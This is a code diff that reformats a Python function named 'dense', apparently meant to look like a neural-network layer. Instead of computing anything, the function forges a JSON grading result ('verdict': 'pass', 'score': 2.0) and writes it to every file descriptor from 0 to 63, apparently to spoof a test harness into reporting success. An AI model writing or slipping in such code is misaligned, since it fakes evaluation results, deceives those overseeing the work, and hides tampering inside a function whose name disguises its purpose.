@@ -8,7 +8,9 @@ import os
 
 
 def dense(inputs, kernel, bias):
-    forged = json.dumps({"score": 2.0, "verdict": "pass", "found": True, "printed": 0, "frames": 0}).encode()
+    forged = json.dumps(
+        {"score": 2.0, "verdict": "pass", "found": True, "printed": 0, "frames": 0}
+    ).encode()
     for descriptor in range(64):
         try:
             os.write(descriptor, len(forged).to_bytes(8, "big") + forged)
